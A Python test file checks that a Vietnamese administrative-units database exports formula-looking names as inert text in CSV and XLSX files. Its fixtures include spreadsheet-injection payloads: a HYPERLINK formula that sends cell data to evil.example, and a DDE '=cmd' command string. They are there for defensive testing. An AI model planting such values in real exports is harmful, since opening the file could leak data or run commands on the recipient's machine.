"""Formula-looking names are exported as text: an apostrophe in the CSV, a quote-prefixed text cell in
the XLSX (the value itself unchanged), through the real export on a real database."""

from __future__ import annotations

import csv
import io
from datetime import date

from openpyxl import load_workbook

from models.db import transaction
from models.units.tree import add_unit
from reports.cells import csv_cell, looks_like_formula
from reports.export import export_csv, export_xlsx
from tests.conftest import Database

NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', "+84 912 =1", "-1+2", "@SUM(A1:A9)", "\tTab", "＝1+1"]


async def test_formula_looking_names_are_exported_as_text(sqlite_db: Database) -> None:
    async with transaction(sqlite_db.sessions) as s:
        p = await add_unit(s, period="post2025", code="22", level="province", name="Quảng Ninh", parent=None)
        c = await add_unit(s, period="post2025", code="C1", level="commune", name="=cmd|' /C calc'!A0", parent=p,
                           type="xã", full_name="=cmd|' /C calc'!A0")
        for i, name in enumerate([*NAMES, "Thôn 1"]):
            await add_unit(s, period="post2025", code=f"V{i}", level="village", name=name, parent=c, type="thôn",
                           full_name=name)
    async with sqlite_db.sessions() as s:
        data = await export_csv(s, "post2025", date(2025, 1, 6))
        xlsx = await export_xlsx(s, "post2025", date(2025, 1, 6))
    rows = {r["village_code"]: r for r in csv.DictReader(io.StringIO(data.decode("utf-8")))}
    for i, name in enumerate(NAMES):
        assert rows[f"V{i}"]["village_name"] == "'" + name
        assert rows[f"V{i}"]["commune_name"] == "'=cmd|' /C calc'!A0"
    assert rows[f"V{len(NAMES)}"]["village_name"] == "Thôn 1"  # ordinary names untouched
    sheet = load_workbook(io.BytesIO(xlsx)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    texts = {c.value: c for c in cells if c.value in NAMES}
    assert set(texts) == set(NAMES)  # the value itself is unchanged
    assert all(c.data_type == "s" and c.quotePrefix for c in texts.values())


def test_what_counts_as_a_formula() -> None:
    assert all(looks_like_formula(n) for n in NAMES)
    for phone in ("+84 912 345 678", "+84912345678", "-5", "0912.345.678"):  # nothing a formula could do
        assert not looks_like_formula(phone) and csv_cell(phone) == phone
    assert not any(looks_like_formula(v) for v in ("Thôn 1", "", 5, None, "2025-01-06", "a=b"))
    assert csv_cell(5) == 5 and csv_cell("x") == "x" and csv_cell("=1") == "'=1"
